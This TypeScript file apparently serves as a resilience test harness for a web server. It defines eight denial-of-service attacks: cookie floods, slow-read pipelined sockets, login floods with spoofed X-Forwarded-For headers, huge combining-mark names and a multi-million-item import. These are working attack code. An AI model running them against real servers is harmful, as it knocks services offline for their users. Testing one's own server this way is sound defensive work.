import { type Agent, type IncomingMessage, type RequestOptions, request } from 'node:http'
import { connect } from 'node:net'

/** Where an attack goes. */
export interface Victim {
  readonly url: string
  /** The owner's, for what only the owner can do by mistake or by a stolen session. */
  readonly token: string
}

interface Shot extends RequestOptions {
  readonly body?: string | Buffer
}

/** What one of several attackers does, again and again. */
interface Attack {
  readonly what: string
  readonly attackers: number
  /** How long each of them waits after an answer. */
  readonly pauseMs?: number
  readonly shoot: (victim: Victim, agent: Agent, shot: number) => Promise<void>
}

const MARKS = `a${'\u0301\u0323'.repeat(39_000)}`
const EMPTY_GROUPS = Buffer.from(`{"groups":[${'{},'.repeat(5_600_000)}{}],"sites":[]}`)

/** Every attack that once stopped a server for everybody; by name, since an attacker is a process of its own. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  cookies: {
    what: '1,291 cookies that are no token',
    attackers: 4,
    shoot: ask({ path: '/', headers: { cookie: 'authToken=x;'.repeat(1291) } }),
  },
  search: {
    what: 'searches for 100 words',
    attackers: 4,
    shoot: ask({ path: `/?q=${'a+b+'.repeat(50)}` }),
  },
  halves: {
    what: 'searches that end in half a character',
    attackers: 4,
    shoot: ask({ path: `/?q=${'a'.repeat(199)}${encodeURIComponent('😀')}` }),
  },
  unread: {
    what: '100 connections that read no answer',
    attackers: 100,
    shoot: ({ url }) => readNothing(url, '/api/sites?groupId=1'),
  },
  foreign: {
    what: 'sign-ins that another website sends',
    attackers: 4,
    shoot: ask({ method: 'POST', path: '/api/login', headers: { 'sec-fetch-site': 'cross-site' }, body: '{}' }),
  },
  logins: {
    what: '300 sign-ins a second from 300 networks',
    attackers: 300,
    pauseMs: 1000,
    shoot: (victim, agent, shot) =>
      ask({
        method: 'POST',
        path: '/api/login',
        headers: { 'content-type': 'application/json', 'x-forwarded-for': `10.${shot % 250}.${shot % 7}.1` },
        body: JSON.stringify({ username: 'admin', password: 'wrong' }),
      })(victim, agent),
  },
  marks: {
    what: 'names of 78,000 combining marks, by the owner',
    attackers: 2,
    shoot: asOwner({ method: 'POST', path: '/api/groups', body: JSON.stringify({ name: MARKS }) }),
  },
  empties: {
    what: 'an import of 5.6 million empty groups, by the owner',
    attackers: 1,
    shoot: asOwner({ method: 'POST', path: '/api/import?skipInvalid=true', body: EMPTY_GROUPS }),
  },
}

function asOwner(shot: Shot): Attack['shoot'] {
  return (victim, agent) => {
    const headers = { 'content-type': 'application/json', authorization: `Bearer ${victim.token}` }
    return ask({ ...shot, headers })(victim, agent)
  }
}

/** Sends a request and reads the answer, whatever it is. */
function ask({ body, ...options }: Shot) {
  return ({ url }: Victim, agent: Agent): Promise<void> =>
    new Promise((resolve) => {
      const { hostname, port } = new URL(url)
      const call = request({ ...options, hostname, port, agent }, (answer: IncomingMessage) => {
        answer.on('end', resolve).on('error', () => resolve())
        answer.resume()
      })
      call.on('error', () => resolve())
      call.end(body)
    })
}

/** Asks many times over one connection, and never reads. Resolves when the server has had enough. */
function readNothing(url: string, path: string): Promise<void> {
  const { hostname, port } = new URL(url)
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname, () =>
      socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(50)),
    )
    socket.pause()
    socket.on('error', () => resolve()).on('close', () => resolve())
  })
}
